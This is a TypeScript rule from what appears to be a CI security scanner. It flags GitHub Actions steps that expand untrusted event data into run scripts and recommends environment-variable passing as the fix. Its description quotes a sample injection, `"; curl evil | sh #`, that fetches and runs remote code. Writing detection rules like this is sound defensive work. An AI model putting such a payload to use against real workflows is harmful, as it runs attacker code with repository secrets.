import type { MisconfigCheck } from '../../../check.js';
import { obj, untrustedExpressions } from '../shared.js';

export const runScriptInjection: MisconfigCheck = {
  id: 'PAL-GHA-002',
  slug: 'run-script-injection',
  platform: 'github-actions',
  title: 'Untrusted input expanded into a run script',
  severity: 'critical',
  description:
    'A `${{ }}` expression is substituted into the shell script before it runs, so a pull request title, issue body, branch name or commit message containing `"; curl evil | sh #` becomes code that runs with the job token and secrets.',
  remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script.',
  references: ['https://securitylab.github.com/resources/github-actions-untrusted-input/', 'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions'],
  kics: ['Run block injection'],
  resourceTypes: ['step'],
  evaluate(r) {
    const run = obj(r.value).run;
    if (typeof run !== 'string') return [];
    const found = untrustedExpressions(run);
    return found.length ? [{ message: `${r.name} expands untrusted ${[...new Set(found)].join(', ')} into run`, at: ['run'] }] : [];
  },
};
